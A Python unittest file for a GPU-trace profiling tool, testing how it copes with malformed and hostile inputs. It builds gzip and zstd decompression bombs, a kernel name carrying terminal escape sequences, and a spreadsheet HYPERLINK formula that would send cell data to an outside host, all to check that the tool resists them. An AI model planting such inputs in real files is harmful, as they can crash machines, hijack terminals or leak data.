#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Files that are not as they seem: bombs, endless names, strays in folders, reports of other tools, names for terminals and spreadsheets.

usage: odd_files_test.py PROGRAM
"""

from __future__ import annotations

import contextlib
import gzip
import json
import os
import pty
import resource
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import unittest
from pathlib import Path

from corpus import ROOT

PROGRAM = str(Path(sys.argv[1]).resolve()) if len(sys.argv) > 1 else str(ROOT / "build/gapless")
SAMPLE = ROOT / "samples/resnet50_v100.pt.trace.json.gz"
DCGM_STATS = """Successfully retrieved process info for PID: 4412. Process ran on 1 GPUs.
+------------------------------------------------------------------------------+
| GPU ID: 0                                                                    |
+====================================+=========================================+
|-----  Execution Stats  ------------+-----------------------------------------|
| Start Time                     *   | Tue Nov  3 17:36:43 2015                |
"""


def trace(*names: str) -> str:
    """A recording with a launch and a kernel for each name."""
    events = []
    for i, name in enumerate(names):
        args = {"correlation": i, "device": 0, "stream": 7}
        host = {
            "ph": "X",
            "cat": "cuda_runtime",
            "name": "cudaLaunchKernel",
            "pid": 1,
            "tid": 1,
            "ts": 10 * i,
            "dur": 2,
        }
        events.append({**host, "args": {"correlation": i}})
        events.append(
            {"ph": "X", "cat": "kernel", "name": name, "pid": 0, "tid": 7, "ts": 10 * i + 3, "dur": 5, "args": args}
        )
    return json.dumps({"traceEvents": events})


class OddFiles(unittest.TestCase):
    def setUp(self) -> None:
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.folder = Path(folder.name)
        self.environment = {
            **os.environ, "HOME": folder.name, "XDG_CACHE_HOME": str(self.folder / "cache"), "LC_ALL": "C.UTF-8"
        }  # fmt: skip
        self.environment["PATH"] = "/usr/bin:/bin"

    def write(self, name: str, text: str) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        return path

    def gapless(self, *words: object, status: int = 0, memory: int = 0) -> subprocess.CompletedProcess[str]:
        def limit() -> None:
            if memory:
                resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

        done = subprocess.run(
            [PROGRAM, *map(str, words)], cwd=self.folder, env=self.environment, capture_output=True, text=True, check=False,
            preexec_fn=limit,
        )  # fmt: skip
        self.assertEqual(done.returncode, status, done.stdout + done.stderr)
        return done

    # Folders.

    def test_a_stray_file_hides_no_recordings_one_level_down(self) -> None:
        self.write("runs/package.json", '{"name": "x", "version": "1"}')
        for rank in (0, 1):
            self.write(f"runs/rank{rank}/rank{rank}.json", trace("gemm"))
        done = self.gapless("analyze", "runs", "--json")
        self.assertEqual(json.loads(done.stdout)["run"]["ranks"], [0, 1])
        self.assertIn("package.json", " ".join(json.loads(done.stdout)["warnings"]))
        (self.folder / "runs/package.json").unlink()
        self.assertEqual(json.loads(self.gapless("analyze", "runs", "--json").stdout)["run"]["ranks"], [0, 1])

    def test_a_folder_with_recordings_is_searched_no_deeper(self) -> None:
        self.write("runs/rank0.json", trace("gemm"))
        self.write("runs/old/rank1.json", trace("gemm"))
        self.assertEqual(json.loads(self.gapless("analyze", "runs", "--json").stdout)["run"]["ranks"], [0])

    # Bombs.

    def test_exports_of_nsys_number_waits_by_their_version(self) -> None:
        """Waits without a call are what the number means in that version; 7 is no number of any."""
        kinds = {
            "2023.4.4.54": ["device", "event", "stream"],
            "2024.5.1.113": ["device", "event", "stream"],
            "2025.1.1.103": ["event", "stream_wait", "stream", "device"],
        }
        for (version, expected), first in zip(kinds.items(), (1, 0, 1)):
            path = self.folder / f"{version}.sqlite"
            with contextlib.closing(sqlite3.connect(path)) as export:
                export.executescript(
                    "CREATE TABLE StringIds (id INTEGER PRIMARY KEY, value TEXT);"
                    "CREATE TABLE META_DATA_EXPORT (name TEXT, value TEXT);"
                    "CREATE TABLE CUPTI_ACTIVITY_KIND_SYNCHRONIZATION (start INTEGER, end INTEGER, deviceId INTEGER,"
                    " streamId INTEGER, correlationId INTEGER, globalPid INTEGER, syncType INTEGER, eventId INTEGER);"
                )
                export.execute("INSERT INTO META_DATA_EXPORT VALUES ('EXPORT_PRODUCT_VERSION', ?)", (version,))
                for at, number in enumerate([*range(first, first + len(expected)), 7]):
                    row = (1000 + at * 100, 1050 + at * 100, 0, 7, at, 1 << 24, number, 1)
                    export.execute(
                        "INSERT INTO CUPTI_ACTIVITY_KIND_SYNCHRONIZATION VALUES (?, ?, ?, ?, ?, ?, ?, ?)", row
                    )
                export.commit()
            said = json.loads(self.gapless("query", path, "SELECT kind FROM sync ORDER BY ts_ns", "--json").stdout)
            self.assertEqual([row["kind"] for row in said], expected, version)

    def check_bomb(self, path: Path) -> None:
        start = time.monotonic()
        said = self.gapless("analyze", path, status=3, memory=4 << 30).stderr
        self.assertLess(time.monotonic() - start, 20)
        self.assertNotIn("cut off", said)
        self.assertRegex(said, "decompress|no reader knows this format|no recording|longer than")

    def test_a_bomb_of_gzip(self) -> None:
        block = gzip.compress(bytes(64 << 20), 9)
        for name, start in (("zeros", b""), ("spaces", b""), ("object", b"{"), ("events", b'{"traceEvents": [')):
            fill = gzip.compress(b" " * (64 << 20), 9) if name != "zeros" else block
            path = self.folder / f"{name}.json.gz"
            path.write_bytes((gzip.compress(start) if start else b"") + fill * 40)
            with self.subTest(name):
                self.check_bomb(path)

    def test_a_bomb_of_zstandard(self) -> None:
        if shutil.which("zstd") is None:
            self.skipTest("zstd is not installed")
        path = self.folder / "spaces.json.zst"
        words = f"(printf '{{'; head -c 2G /dev/zero | tr '\\0' ' ') | zstd -q -o {path}"
        subprocess.run(["sh", "-c", words], check=True)
        self.check_bomb(path)

    # Names.

    def test_a_name_of_many_megabytes(self) -> None:
        path = self.write("long.json", trace("gemm", "void " + "sgemm_" * 5_000_000, "elementwise_kernel"))
        start = time.monotonic()
        done = self.gapless("analyze", path, memory=3 << 30)
        self.assertLess(time.monotonic() - start, 10)
        self.assertLess(len(done.stdout), 100_000)
        self.assertLess(
            len(self.gapless("query", path, "SELECT DISTINCT class FROM gpu_op", memory=3 << 30).stdout), 1000
        )

    def on_terminal(self, *words: object) -> bytes:
        """Returns what the program writes if its standard output is a terminal."""
        leader, follower = pty.openpty()
        read: list[bytes] = []

        def drain() -> None:
            try:
                while block := os.read(leader, 65536):
                    read.append(block)
            except OSError:  # the other end is closed
                pass

        thread = threading.Thread(target=drain)
        thread.start()
        subprocess.run(
            [PROGRAM, *map(str, words)],
            cwd=self.folder,
            env=self.environment,
            stdout=follower,
            stderr=subprocess.DEVNULL,
            check=True,
        )
        os.close(follower)
        thread.join()
        os.close(leader)
        return b"".join(read)

    def test_csv_on_a_terminal_has_no_escape_sequences(self) -> None:
        name = "gemm\x1b]0;owned\x07\x1b[31m"
        path = self.write("trace.json", trace(name))
        words = ("query", path, "SELECT name FROM gpu_op", "--csv")
        self.assertNotIn(b"\x1b", self.on_terminal(*words))
        self.assertIn(name, self.gapless(*words).stdout, "a pipe gets what was recorded")
        metric = ("history", "record", "--metric", "step_time_ms=1", "--branch", name, "--db", "h.db")
        self.gapless(*metric)
        self.assertNotIn(b"\x1b", self.on_terminal("history", "list", "--csv", "--db", "h.db"))
        self.assertIn(name, self.gapless("history", "list", "--csv", "--db", "h.db").stdout)

    def test_formulas_are_quoted_if_asked_and_named_if_not(self) -> None:
        formula = '=HYPERLINK("http://host/?"&A1,"x")'
        path = self.write("trace.json", trace(formula, "-12", "gemm"))
        sql = "SELECT name, -dur_ns FROM gpu_op"
        plain = self.gapless("query", path, sql, "--csv")
        self.assertIn('"=HYPERLINK(', plain.stdout)
        self.assertIn("--csv=spreadsheet", plain.stderr)
        quoted = self.gapless("query", path, sql, "--csv=spreadsheet")
        self.assertIn("\"'=HYPERLINK(", quoted.stdout)
        self.assertIn("\n-12,-5000\n", quoted.stdout)
        self.assertEqual(quoted.stderr, "")

    # Other tools.

    def test_reports_of_other_tools_that_cannot_be_read(self) -> None:
        said = self.gapless("analyze", self.write("kernels.ncu-rep", "NVR\0x"), status=3).stderr
        self.assertIn("it was cut off in its beginning", said)
        self.assertIn("where ncu is installed", said)
        said = self.gapless("analyze", self.write("kernels.bin", "NVR\0x"), status=3).stderr
        self.assertIn("Nsight Compute", said)
        said = self.gapless("analyze", self.write("dcgm.txt", DCGM_STATS), status=3).stderr
        self.assertIn("dcgmi stats", said)
        self.assertIn("dcgmi dmon", said)

    def test_a_step_function_without_pytorch(self) -> None:
        self.write("train.py", "def step():\n    pass\n\n\nfor _ in range(9):\n    step()\n")
        script = [sys.executable, "train.py"]
        said = self.gapless("profile", "-o", "run", "--step-function", "train.py:step", "--", *script).stderr
        self.assertIn("--step-function train.py:step", said)
        self.assertIn("PyTorch", said)
        self.assertNotIn("elsewhere name the function", said)
        done = self.gapless("bench", "--step-function", "train.py:step", "--", *script, status=5)
        self.assertIn("no call of --step-function train.py:step was counted", done.stderr)
        self.assertIn("--whole", done.stderr)


class Package(unittest.TestCase):
    def test_installing_leaves_nothing_in_the_checkout(self) -> None:
        if (
            subprocess.run([sys.executable, "-c", "import setuptools"], capture_output=True, check=False).returncode
            != 0
        ):
            self.skipTest("setuptools is not installed")
        with tempfile.TemporaryDirectory() as folder:
            checkout = Path(folder) / "checkout"
            names = subprocess.run(["git", "ls-files", "-z", "setup.py", "pyproject.toml", "python", "README.md", ".gitignore"],
                                   cwd=ROOT, check=True, capture_output=True, text=True).stdout.split("\0")  # fmt: skip
            for name in filter(None, names):
                (checkout / name).parent.mkdir(parents=True, exist_ok=True)
                shutil.copy(ROOT / name, checkout / name)
            for words in (["init", "-q"], ["add", "-A"]):
                subprocess.run(["git", *words], cwd=checkout, check=True)
            before = set(self.state(checkout))
            # Does what `pip install .` has setuptools do, but for making the wheel, which needs one more package.
            words = [sys.executable, "setup.py", "-q", "egg_info", "build"]
            subprocess.run(words, cwd=checkout, check=True, capture_output=True)
            self.assertTrue(list(checkout.glob("build/python/**/gapless/__init__.py")))
            self.assertEqual(set(self.state(checkout)) - before - {"!! build/"}, set())

    def state(self, checkout: Path) -> list[str]:
        words = ["git", "status", "--porcelain", "--ignored"]
        return subprocess.run(words, cwd=checkout, check=True, capture_output=True, text=True).stdout.splitlines()


if __name__ == "__main__":
    unittest.main(argv=sys.argv[:1])
